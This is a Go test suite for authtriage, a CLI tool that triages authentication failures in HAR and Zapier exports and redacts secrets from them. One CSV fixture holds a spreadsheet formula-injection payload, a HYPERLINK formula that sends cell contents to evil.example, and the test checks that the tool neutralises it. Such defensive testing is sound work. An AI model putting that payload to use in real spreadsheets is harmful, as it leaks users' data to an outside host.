package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite golden files")

// session is a small HAR: a Google token refresh, then an API call 61 minutes
// later with the token it issued, answered 401, never refreshed again; and
// a 429 on another day.
const session = `{"log":{"version":"1.2","creator":{"name":"WebInspector","version":"537.36"},"entries":[
{"startedDateTime":"2026-03-02T09:00:00.000Z","time":100,"request":{"method":"POST","url":"https://oauth2.googleapis.com/token","headers":[],
 "postData":{"mimeType":"application/x-www-form-urlencoded","text":"grant_type=refresh_token&refresh_token=1%2F%2F0gSECRETREFRESH&client_id=42.apps.googleusercontent.com&client_secret=GOCSPX-SECRETCLIENT"}},
 "response":{"status":200,"headers":[],"content":{"mimeType":"application/json","text":"{\"access_token\":\"ya29.SECRETACCESS\",\"expires_in\":3599,\"token_type\":\"Bearer\"}"}}},
{"startedDateTime":"2026-03-02T10:01:00.000Z","time":80,"request":{"method":"GET","url":"https://www.googleapis.com/drive/v3/files","headers":[{"name":"Authorization","value":"Bearer ya29.SECRETACCESS"}]},
 "response":{"status":401,"headers":[{"name":"WWW-Authenticate","value":"Bearer realm=\"https://accounts.google.com/\", error=\"invalid_token\""}],
 "content":{"mimeType":"application/json","text":"{\"error\":{\"code\":401,\"message\":\"Request had invalid authentication credentials.\",\"status\":\"UNAUTHENTICATED\"}}"}}},
{"startedDateTime":"2026-03-05T10:00:00.000Z","time":80,"request":{"method":"GET","url":"https://www.googleapis.com/drive/v3/files?pageSize=10","headers":[{"name":"Authorization","value":"Bearer ya29.SECRETACCESS"}]},
 "response":{"status":429,"headers":[{"name":"Retry-After","value":"30"}],"content":{"mimeType":"application/json","text":"{}"}}}
]}}`

func runCLI(t *testing.T, stdin string, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(args, strings.NewReader(stdin), &out, &errb)
	return code, out.String(), errb.String()
}

func TestStdinHAR(t *testing.T) {
	code, out, stderr := runCLI(t, session, "--format", "jsonl")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 2 {
		t.Fatalf("want 2 findings, got %d:\n%s", len(lines), out)
	}
	var f struct {
		Source map[string]any `json:"source"`
		Label  string         `json:"label"`
		Status int            `json:"status"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &f); err != nil {
		t.Fatal(err)
	}
	if f.Source["file"] != stdinName || f.Source["index"] != float64(1) || f.Label != "expired" || f.Status != 401 {
		t.Errorf("first finding: %s", lines[0])
	}
}

func TestNoSecretInAnyFormat(t *testing.T) {
	for _, format := range []string{"table", "markdown", "json", "jsonl", "csv", "html"} {
		for _, extra := range [][]string{nil, {"--explain", "lineage"}} {
			args := append([]string{"--format", format}, extra...)
			_, out, stderr := runCLI(t, session, args...)
			for _, s := range []string{"SECRETREFRESH", "SECRETCLIENT", "SECRETACCESS"} {
				if strings.Contains(out+stderr, s) {
					t.Errorf("%v: output holds %s", args, s)
				}
			}
		}
	}
}

func TestWindow(t *testing.T) {
	tests := []struct {
		args []string
		want int
	}{
		{nil, 2},
		{[]string{"--since", "2026-03-03"}, 1},
		{[]string{"--until", "2026-03-03T00:00:00Z"}, 1},
		{[]string{"--now", "2026-03-06T00:00:00Z", "--since", "2d"}, 1},
		{[]string{"--now", "2026-03-06T00:00:00Z", "--since", "7d"}, 2},
		{[]string{"--since", "2026-03-06", "--until", "2026-03-07"}, 0},
	}
	for _, tt := range tests {
		code, out, stderr := runCLI(t, session, append([]string{"--format", "jsonl"}, tt.args...)...)
		got := strings.Count(out, "\n")
		if code != 0 || got != tt.want {
			t.Errorf("%v: exit %d, %d findings, want %d (%s)", tt.args, code, got, tt.want, stderr)
		}
	}
	if code, _, stderr := runCLI(t, session, "--since", "last tuesday"); code != 2 || !strings.Contains(stderr, "--since") {
		t.Errorf("bad --since: exit %d, %q", code, stderr)
	}
}

func TestFailOnExitCodes(t *testing.T) {
	tests := []struct {
		spec string
		want int
	}{
		{"any>=1", 1},
		{"any>=3", 0},
		{"expired", 1},
		{"revoked", 0},
		{"rate-limited>=1", 1},
	}
	for _, tt := range tests {
		code, out, stderr := runCLI(t, session, "--format", "json", "--fail-on", tt.spec)
		if code != tt.want {
			t.Errorf("--fail-on %s: exit %d, want %d (%s)", tt.spec, code, tt.want, stderr)
		}
		if !strings.Contains(out, `"schema_version"`) {
			t.Errorf("--fail-on %s: the report was not written before exiting", tt.spec)
		}
	}
	if code, _, _ := runCLI(t, session, "--fail-on", "expired>>2"); code != 2 {
		t.Errorf("bad --fail-on: exit %d, want 2", code)
	}
}

func TestOutputAtomic(t *testing.T) {
	dir := t.TempDir()
	out := filepath.Join(dir, "weekly.md")
	if code, _, stderr := runCLI(t, session, "--format", "markdown", "-o", out); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	first, _ := os.ReadFile(out)
	if !bytes.Contains(first, []byte("expired")) {
		t.Fatalf("report not written:\n%s", first)
	}
	// A failed run (a missing input) leaves last week's report as it was.
	code, _, stderr := runCLI(t, session, "--format", "markdown", "-o", out, "-", filepath.Join(dir, "missing.har"))
	if code != 2 || !strings.Contains(stderr, "missing.har: no such file or directory") {
		t.Errorf("exit %d, stderr %q", code, stderr)
	}
	after, _ := os.ReadFile(out)
	if !bytes.Equal(first, after) {
		t.Error("a failed run changed the existing report")
	}
	left, _ := filepath.Glob(filepath.Join(dir, ".*tmp*"))
	if len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

func TestNoColor(t *testing.T) {
	// Buffers are not terminals, so colour is off; NO_COLOR must keep it
	// off even when the format asks for a table.
	t.Setenv("NO_COLOR", "1")
	_, out, _ := runCLI(t, session)
	if strings.Contains(out, "\x1b[") {
		t.Error("ANSI escapes with NO_COLOR set")
	}
	tests := []struct {
		c     config
		tty   bool
		env   string
		term  string
		color bool
	}{
		{config{format: "table"}, true, "", "xterm-256color", true},
		{config{format: "table"}, true, "", "", true},
		{config{format: "table"}, true, "1", "xterm", false},                                // NO_COLOR
		{config{format: "table"}, true, "", "dumb", false},                                  // TERM=dumb
		{config{format: "table", opts: options{noColor: true}}, true, "", "xterm", false},   // --no-color
		{config{format: "table"}, false, "", "xterm", false},                                // not a terminal
		{config{format: "table", opts: options{output: "r.txt"}}, true, "", "xterm", false}, // -o
		{config{format: "markdown"}, true, "", "xterm", false},
	}
	for i, tt := range tests {
		if got := tt.c.wantColor(tt.tty, tt.env, tt.term); got != tt.color {
			t.Errorf("case %d: colour %v, want %v", i, got, tt.color)
		}
	}
}

func TestDeterministic(t *testing.T) {
	for _, format := range []string{"table", "markdown", "json", "jsonl", "csv", "html"} {
		_, a, _ := runCLI(t, session, "--format", format)
		_, b, _ := runCLI(t, session, "--format", format)
		if a != b {
			t.Errorf("%s: two runs differ", format)
		}
	}
}

func TestBadInputs(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good.har")
	os.WriteFile(good, []byte(session), 0o644)
	empty := filepath.Join(dir, "empty.jsonl")
	os.WriteFile(empty, nil, 0o644)
	garbage := filepath.Join(dir, "notes.txt")
	os.WriteFile(garbage, []byte("just some notes\n"), 0o644)
	code, out, stderr := runCLI(t, "", "--format", "jsonl", good, empty, garbage, filepath.Join(dir, "nope.har"))
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	if strings.Count(out, "\n") != 2 {
		t.Errorf("the good input was not reported:\n%s", out)
	}
	for _, want := range []string{"empty.jsonl: empty input", "notes.txt: not a supported format", "nope.har: no such file or directory"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, stderr)
		}
	}
	// In a directory walk, files of no supported format are listed, not fatal.
	code, _, stderr = runCLI(t, "", "--format", "jsonl", dir)
	if code != 0 || !strings.Contains(stderr, "notes.txt: skipped") {
		t.Errorf("dir walk: exit %d, stderr %q", code, stderr)
	}
	if code, _, _ := runCLI(t, "", "--format", "yaml", good); code != 2 {
		t.Errorf("unknown format: exit %d", code)
	}
}

func TestRedactCommand(t *testing.T) {
	code, out, stderr := runCLI(t, session, "redact")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	for _, s := range []string{"SECRETREFRESH", "SECRETCLIENT", "SECRETACCESS"} {
		if strings.Contains(out, s) {
			t.Errorf("redacted copy holds %s", s)
		}
	}
	if !json.Valid([]byte(out)) {
		t.Fatal("redacted HAR is not valid JSON")
	}
	_, a, _ := runCLI(t, session, "--format", "jsonl")
	_, b, _ := runCLI(t, out, "--format", "jsonl")
	if a != b {
		t.Errorf("findings differ after redaction:\n%s\n%s", a, b)
	}
}

func TestHostileFiles(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "good.har"), []byte(session), 0o644)
	// A symlink loop and a FIFO inside a walked directory.
	os.Symlink(dir, filepath.Join(dir, "loop"))
	fifo := filepath.Join(dir, "pipe")
	if err := mkfifo(fifo); err != nil {
		t.Skip("no FIFOs here:", err)
	}
	// An unreadable file (root reads it anyway, so only checked as non-root).
	locked := filepath.Join(dir, "locked.har")
	os.WriteFile(locked, []byte(session), 0o000)
	done := make(chan struct{})
	var code int
	var out, stderr string
	go func() {
		code, out, stderr = runCLI(t, "", "--format", "jsonl", dir)
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(20 * time.Second):
		t.Fatal("hung on a symlink loop or a FIFO")
	}
	if !strings.Contains(stderr, "pipe: skipped: not a regular file") {
		t.Errorf("FIFO not listed as skipped:\n%s", stderr)
	}
	if os.Geteuid() != 0 && (code != 2 || !strings.Contains(stderr, "locked.har: permission denied")) {
		t.Errorf("unreadable file: exit %d, stderr %s", code, stderr)
	}
	if !strings.Contains(out, `"file":"`+filepath.Join(dir, "good.har")) {
		t.Errorf("the good input was not reported:\n%s", out)
	}
	// A file that opens but cannot be read (root reads any file, but not
	// this one: reading /proc/self/mem at offset 0 fails with EIO).
	if _, err := os.Stat("/proc/self/mem"); err == nil {
		code, out, stderr := runCLI(t, "", "--format", "jsonl", "/proc/self/mem", filepath.Join(dir, "good.har"))
		if code != 2 || !strings.Contains(stderr, "/proc/self/mem: read: ") || strings.Count(out, "\n") != 2 {
			t.Errorf("unreadable file: exit %d, stderr %q, %d findings", code, stderr, strings.Count(out, "\n"))
		}
	}
}

// TestJSONTimelines checks that the JSON report carries each connection's
// token story: the refresh that issued the token, then the rejection.
func TestJSONTimelines(t *testing.T) {
	code, out, stderr := runCLI(t, session, "--format", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var rep struct {
		Timelines []struct {
			Connection string
			Marks      []struct {
				Kind   string
				Source map[string]any
			}
		}
	}
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatal(err)
	}
	if len(rep.Timelines) != 1 {
		t.Fatalf("timelines: %+v", rep.Timelines)
	}
	var kinds []string
	for _, m := range rep.Timelines[0].Marks {
		kinds = append(kinds, m.Kind)
	}
	if got := strings.Join(kinds, ","); !strings.HasPrefix(got, "refreshed,rejected") && !strings.HasPrefix(got, "issued,rejected") {
		t.Errorf("marks = %s, want the token response then the rejection", got)
	}
}

// TestCSVFormulaCells: a task-history export whose Zap name, step and
// connection a customer typed as spreadsheet formulas comes out of the CSV
// report with those cells starting with an apostrophe, so Excel or Sheets
// shows them as text instead of running them; the other cells are as they
// were.
func TestCSVFormulaCells(t *testing.T) {
	history := "Task ID,Zap ID,Zap Name,Step,App,Status,Date,Error Message,Connection\n" +
		`614117096702,412003,"=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",2,Webhooks by Zapier,Errored,2026-03-11T08:20:00Z,"Got 400 calling POST https://api.customer-portal.example/webhook, expected 2xx.",@SUM(1+1)` + "\n"
	code, out, stderr := runCLI(t, history, "--format", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 {
		t.Fatalf("%d records, want a header and one finding:\n%s", len(recs), out)
	}
	row := map[string]string{}
	for i, name := range recs[0] {
		row[name] = recs[1][i]
	}
	if got := row["zap_title"]; got != `'=HYPERLINK("https://evil.example/?d="&A1,"Open")` {
		t.Errorf("zap_title = %q, want the formula behind an apostrophe", got)
	}
	if got := row["connection"]; !strings.HasPrefix(got, "'@SUM(1+1)") {
		t.Errorf("connection = %q, want it behind an apostrophe", got)
	}
	if row["zap_id"] != "412003" || row["status"] != "400" || row["label"] != "webhook-400" {
		t.Errorf("plain cells changed: zap_id %q status %q label %q", row["zap_id"], row["status"], row["label"])
	}
	for name, v := range row {
		if strings.ContainsAny(v[:min(1, len(v))], "=+-@") {
			t.Errorf("%s = %q starts a formula", name, v)
		}
	}
}

// TestExplainAmbiguous: a prefix of several connections' ids names none
// of them: the tool lists them and exits 2 instead of picking one; an id
// in full explains that connection.
func TestExplainAmbiguous(t *testing.T) {
	dir := "../../samples/zapier"
	code, out, stderr := runCLI(t, "", "--explain", "481120", dir)
	if code != 2 || out != "" || !strings.Contains(stderr, "names 5 connections") || !strings.Contains(stderr, "4811202, 4811203, 4811204, 4811205, 4811206") {
		t.Errorf("ambiguous prefix: exit %d, stdout %d bytes, stderr %q", code, len(out), stderr)
	}
	code, out, stderr = runCLI(t, "", "--explain", "4811203", "--format", "jsonl", dir)
	findings, added, _ := strings.Cut(out, `{"record":`) // the findings, then the explanation
	if code > 1 || !strings.Contains(added, `"connection":"4811203"`) || strings.Contains(added, `"connection":"4811204"`) || !strings.Contains(findings, `"connection":"4811204"`) {
		t.Errorf("--explain 4811203: exit %d, stderr %q", code, stderr)
	}
}

// TestOutputDirectory: -o naming a directory is refused before any input
// is read, for the report and for redact, with a message saying so.
func TestOutputDirectory(t *testing.T) {
	dir := t.TempDir()
	for _, args := range [][]string{{"-o", dir, "../../samples/zapier"}, {"redact", "-o", dir, "../../samples/zapier/platform-logs.jsonl"}} {
		code, _, stderr := runCLI(t, "", args...)
		if code != 2 || !strings.Contains(stderr, dir+": a directory") {
			t.Errorf("%v: exit %d, stderr %q", args, code, stderr)
		}
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("left %d files in %s", len(left), dir)
	}
}

// TestMaxRecordBytesPositive: a record cap below one byte is refused up
// front; 0 used to mean the default and a negative number no cap, silently.
func TestMaxRecordBytesPositive(t *testing.T) {
	for _, n := range []string{"0", "-1", "-5"} {
		code, _, stderr := runCLI(t, "", "--max-record-bytes", n, "../../samples/har/chrome-sanitized.har")
		if code != exitUsage || !strings.Contains(stderr, "--max-record-bytes "+n+": give a size of at least 1 byte") {
			t.Errorf("--max-record-bytes %s: exit %d, stderr %q", n, code, stderr)
		}
	}
	if _, _, stderr := runCLI(t, "", "--max-record-bytes", "1", "-q", "../../samples/har/chrome-sanitized.har"); strings.Contains(stderr, "give a size") {
		t.Errorf("--max-record-bytes 1 refused: %s", stderr)
	}
}

// TestUsageRefused: a flag value that would be accepted and then do
// nothing is refused as bad usage, with a message naming the flag: an
// empty --fail-on ("$SPEC" unset, so the job could never fail) and a
// --field PATH that is no gjson path (it matched nothing, silently).
func TestUsageRefused(t *testing.T) {
	const har = "../../samples/har/chrome-sanitized.har"
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"--fail-on", ""}, "authtriage: --fail-on: empty SPEC; give one such as revoked, expired:unrecovered>=5 or any>=1, or leave the flag out\n"},
		{[]string{"--fail-on", "  "}, "authtriage: --fail-on: empty SPEC; give one such as revoked, expired:unrecovered>=5 or any>=1, or leave the flag out\n"},
		{[]string{"--field", "time=[[["}, "authtriage: --field \"time=[[[\": PATH leaves a '[' open\n"},
		{[]string{"--field", "url=http.url}"}, "authtriage: --field \"url=http.url}\": PATH has a '}' that closes nothing\n"},
		{[]string{"--field", "status=http..status_code"}, "authtriage: --field \"status=http..status_code\": PATH has an empty key (a '.' at an end, or \"..\")\n"},
		{[]string{"--field", "time=ts\\"}, "authtriage: --field \"time=ts\\\\\": PATH ends in '\\' with nothing to escape\n"},
		{[]string{"--field", `status=tags.#(name=="x".value`}, "authtriage: --field \"status=tags.#(name==\\\"x\\\".value\": PATH leaves a '(' open\n"},
	}
	for _, tt := range tests {
		code, _, stderr := runCLI(t, "", append(tt.args, har)...)
		if code != exitUsage || stderr != tt.want {
			t.Errorf("%q: exit %d, stderr\n %q\nwant\n %q", tt.args, code, stderr, tt.want)
		}
	}
	// Paths gjson reads are taken: nested keys, escapes, array items,
	// queries with brackets in their strings, modifiers.
	for _, f := range []string{"time=ts", "url=http\\.url", "status=res.code", "method=events.0.method",
		`step=attrs.#(key=="[step]").value`, "request_headers=req.headers|@this"} {
		if code, _, stderr := runCLI(t, "", "-q", "--field", f, har); code != 0 {
			t.Errorf("--field %s: exit %d: %s", f, code, stderr)
		}
	}
}

// TestNoRecords: an input read without error that holds no record (a HAR
// exported before anything was recorded) is said on stderr and in the
// report's errors, not passed over as "No failures".
func TestNoRecords(t *testing.T) {
	dir := t.TempDir()
	har := filepath.Join(dir, "session.har")
	if err := os.WriteFile(har, []byte(`{"log":{"version":"1.2","creator":{"name":"WebInspector","version":"537.36"},"pages":[],"entries":[]}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, stderr := runCLI(t, "", "-f", "json", har)
	want := "session.har: a HAR with no entries: was the browser's network log recording while the problem happened?"
	if code != exitOK || !strings.Contains(stderr, want) || !strings.Contains(out, want) {
		t.Errorf("exit %d, stderr %q, report %q", code, stderr, out)
	}
}

// TestWhen: --since and --until take a date-time without a zone as UTC,
// as the parser reads an input's zone-less times, and a bare date in
// --until means the end of that day, so --since D --until D is day D.
func TestWhen(t *testing.T) {
	tests := []struct {
		since, until string
		want         string // "SINCE UNTIL" in RFC 3339, or the error
	}{
		{"2026-03-09T20:00:00", "", "2026-03-09T20:00:00Z -"},
		{"2026-03-09T20:00:00.250", "", "2026-03-09T20:00:00.25Z -"},
		{"2026-03-09 20:00:00", "", "2026-03-09T20:00:00Z -"},
		{"2026-03-09T20:00", "", "2026-03-09T20:00:00Z -"},
		{"2026-03-09T20:00:00+01:00", "", "2026-03-09T19:00:00Z -"},
		{"2026-03-09", "2026-03-09", "2026-03-09T00:00:00Z 2026-03-10T00:00:00Z"},
		{"", "2026-03-09", "- 2026-03-10T00:00:00Z"},
		{"", "2026-03-09T00:00:00", "- 2026-03-09T00:00:00Z"},
		{"", "2026-02-28", "- 2026-03-01T00:00:00Z"},
		{"", "1d", "- 2026-03-09T12:00:00Z"},
		{"2026-03-10", "2026-03-09", "--until 2026-03-09 (2026-03-10T00:00:00Z) is not after --since 2026-03-10 (2026-03-10T00:00:00Z)"},
		{"2026-03-09T20:00:00 CET", "", `--since: "2026-03-09T20:00:00 CET": want RFC 3339 (2026-03-02T10:00:00Z; without a zone, UTC), a date (2026-03-02) or a duration (7d, 24h, 30m)`},
	}
	for _, tt := range tests {
		o := options{format: "table", maxRecord: 1, since: tt.since, until: tt.until, now: "2026-03-10T12:00:00Z"}
		c, err := configure(&o, []string{"x"}, nil)
		var got string
		if err != nil {
			got = err.Error()
		} else {
			got = whenText(c.since) + " " + whenText(c.until)
		}
		if got != tt.want {
			t.Errorf("--since %q --until %q:\n got %s\nwant %s", tt.since, tt.until, got, tt.want)
		}
	}
	// The whole of the day --until names is kept: the 429 at 10:00.
	code, out, stderr := runCLI(t, session, "-f", "jsonl", "--since", "2026-03-05", "--until", "2026-03-05")
	if code != 0 || strings.Count(out, "\n") != 1 || !strings.Contains(out, `"status":429`) {
		t.Errorf("one day: exit %d, stderr %q, findings:\n%s", code, stderr, out)
	}
}

func whenText(t time.Time) string {
	if t.IsZero() {
		return "-"
	}
	return t.Format(time.RFC3339Nano)
}

// TestNoUsableRecord: an input every record of which was skipped as
// malformed fails as an unreadable one does: exit 2 whatever --fail-on
// says, -o left as it was, the other inputs still reported. An input with
// no record at all still exits 0.
func TestNoUsableRecord(t *testing.T) {
	dir := t.TempDir()
	write := func(name, data string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	const head = "Zap ID,Status,Date,Error\n"
	const row = `"Got 401 calling GET https://api.hubapi.com/x, expected 2xx."` + "\n"
	bad := write("bad.csv", head+"1,error,last Monday,"+row+"2,error,2026-13-09 08:14:11,"+row)
	one := write("one.csv", head+"1,error,09 Mär 2026 08:14,"+row)
	good := write("good.har", session)
	headOnly := write("head.csv", head)
	report := filepath.Join(dir, "week.jsonl")
	tests := []struct {
		args     []string
		code     int
		findings int    // lines on stdout
		stderr   string // the last line of stderr
		kept     bool   // -o left as it was
	}{
		{[]string{"--fail-on", "any", bad}, 2, 0, "authtriage: " + bad + ": no usable record: all 2 were skipped as malformed", false},
		{[]string{one}, 2, 0, "authtriage: " + one + ": no usable record: its one record was skipped as malformed", false},
		{[]string{"--fail-on", "any", "-o", report, bad}, 2, 0, "authtriage: " + report + ": not replaced, because inputs failed", true},
		{[]string{"--fail-on", "any", bad, good}, 2, 2, "authtriage: " + bad + ": no usable record: all 2 were skipped as malformed", false},
		{[]string{"-o", report, dir}, 2, 0, "authtriage: " + report + ": not replaced, because inputs failed", true},
		{[]string{headOnly}, 0, 0, "authtriage: " + headOnly + ": no records in it", false},
	}
	for _, tt := range tests {
		if err := os.WriteFile(report, []byte("last week\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		code, out, stderr := runCLI(t, "", append([]string{"-q", "-f", "jsonl"}, tt.args...)...)
		lines := strings.Split(strings.TrimSpace(stderr), "\n")
		last := lines[len(lines)-1]
		if code != tt.code || strings.Count(out, "\n") != tt.findings || last != tt.stderr {
			t.Errorf("%v: exit %d, %d findings, stderr ending %q\nwant exit %d, %d findings, %q", tt.args, code, strings.Count(out, "\n"), last, tt.code, tt.findings, tt.stderr)
		}
		if kept, _ := os.ReadFile(report); (string(kept) == "last week\n") != tt.kept && slices.Contains(tt.args, report) {
			t.Errorf("%v: -o replaced: %v, want %v", tt.args, !tt.kept, tt.kept)
		}
	}
}

// TestExplainAdds: --explain adds the connection's timeline to the report
// in every format that can hold it, the findings kept; jsonl adds records
// of a "record" kind after the finding lines; csv is refused up front.
func TestExplainAdds(t *testing.T) {
	for _, format := range []string{"table", "markdown", "json", "jsonl", "html"} {
		_, plain, _ := runCLI(t, session, "-f", format)
		code, out, stderr := runCLI(t, session, "-f", format, "--explain", "lineage")
		if code != 0 {
			t.Errorf("%s: exit %d: %s", format, code, stderr)
			continue
		}
		switch format {
		case "jsonl":
			rest, ok := strings.CutPrefix(out, plain)
			if !ok || strings.Count(plain, "\n") != 2 {
				t.Errorf("jsonl: the findings are not the first lines:\n%s", out)
			}
			for _, l := range strings.Split(strings.TrimSpace(rest), "\n") {
				if !strings.HasPrefix(l, `{"record":"`) {
					t.Errorf("jsonl: added line without a record kind: %s", l)
				}
			}
			if !strings.Contains(rest, `{"record":"token"`) || !strings.Contains(rest, `{"record":"event"`) {
				t.Errorf("jsonl: no token or event records:\n%s", rest)
			}
		case "json":
			var a, b struct {
				Findings []json.RawMessage `json:"findings"`
				Explain  *json.RawMessage  `json:"explain"`
			}
			if json.Unmarshal([]byte(plain), &a) != nil || json.Unmarshal([]byte(out), &b) != nil || len(b.Findings) != 2 || len(a.Findings) != 2 || b.Explain == nil {
				t.Errorf("json: %d and %d findings, explain %v", len(a.Findings), len(b.Findings), b.Explain != nil)
			}
		default:
			if len(out) <= len(plain) || !strings.Contains(out, "lineage:") {
				t.Errorf("%s: nothing added (%d bytes, %d without --explain)", format, len(out), len(plain))
			}
		}
	}
	code, out, stderr := runCLI(t, session, "-f", "csv", "--explain", "lineage")
	want := "authtriage: --explain with --format csv: a CSV report holds one table, the findings; give --explain with another format (jsonl adds its records after the findings)\n"
	if code != exitUsage || out != "" || stderr != want {
		t.Errorf("csv: exit %d, stdout %q, stderr %q", code, out, stderr)
	}
}

// TestOutputFormatFromName checks that -o's extension gives the format when
// -f does not, and that an -f the extension contradicts is refused before
// any input is read.
func TestOutputFormatFromName(t *testing.T) {
	dir := t.TempDir()
	tests := []struct {
		name   string
		args   []string
		code   int
		start  string // the start of the file written
		stderr string
	}{
		{"weekly.html", nil, 0, "<!DOCTYPE html>", ""},
		{"WEEKLY.HTM", nil, 0, "<!DOCTYPE html>", ""},
		{"weekly.md", nil, 0, "# authtriage report\n", ""},
		{"weekly.markdown", nil, 0, "# authtriage report\n", ""},
		{"weekly.json", nil, 0, "{\n", ""},
		{"weekly.jsonl", nil, 0, `{"source":`, ""},
		{"weekly.ndjson", nil, 0, `{"source":`, ""},
		{"weekly.csv", nil, 0, "file,index,line,", ""},
		{"weekly.txt", nil, 0, "2 findings (2 unrecovered", ""},
		{"weekly.out", nil, 0, "2 findings (2 unrecovered", ""},
		{"weekly.out", []string{"-f", "json"}, 0, "{\n", ""},
		{"weekly.md", []string{"-f", "md"}, 0, "# authtriage report\n", ""},
		{"weekly.txt", []string{"-f", "table"}, 0, "2 findings (2 unrecovered", ""},
		{"weekly.html", []string{"-f", "markdown"}, 2, "", "authtriage: -o DIR/weekly.html: its extension means --format html, but --format markdown was given; make them agree, or drop -f\n"},
		{"weekly.json", []string{"--format", "table"}, 2, "", "authtriage: -o DIR/weekly.json: its extension means --format json, but --format table was given; make them agree, or drop -f\n"},
		{"weekly.csv", []string{"--explain", "x"}, 2, "", "authtriage: --explain with --format csv: " + "a CSV report holds one table, the findings; give --explain with another format (jsonl adds its records after the findings)\n"},
	}
	for _, tc := range tests {
		out := filepath.Join(dir, tc.name)
		os.Remove(out)
		// A missing input: a refusal must come before inputs are read.
		missing := filepath.Join(dir, "missing.har")
		args := append(append([]string{"-o", out}, tc.args...), "-")
		if tc.code != 0 {
			args = append(args, missing)
		}
		code, _, stderr := runCLI(t, session, args...)
		stderr = strings.ReplaceAll(stderr, dir, "DIR")
		if code != tc.code || stderr != tc.stderr {
			t.Errorf("%s %q: exit %d, stderr %q; want %d, %q", tc.name, tc.args, code, stderr, tc.code, tc.stderr)
			continue
		}
		got, err := os.ReadFile(out)
		if tc.code != 0 {
			if err == nil {
				t.Errorf("%s %q: refused, yet written", tc.name, tc.args)
			}
			continue
		}
		if !strings.HasPrefix(string(got), tc.start) {
			t.Errorf("%s %q: starts %.40q, want %q", tc.name, tc.args, got, tc.start)
		}
	}
}

// TestHelpFormatDefault: --help gives -f's default once, as the usage
// words it (from -o's extension, else table), not pflag's too.
func TestHelpFormatDefault(t *testing.T) {
	_, out, stderr := runCLI(t, "", "--help")
	help := out + stderr
	line := ""
	for _, l := range strings.Split(help, "\n") {
		if strings.Contains(l, "--format") {
			line = l
		}
	}
	if !strings.Contains(line, "from -o's extension, else table") || strings.Contains(line, `(default "table")`) {
		t.Errorf("--format's help line: %q", line)
	}
}
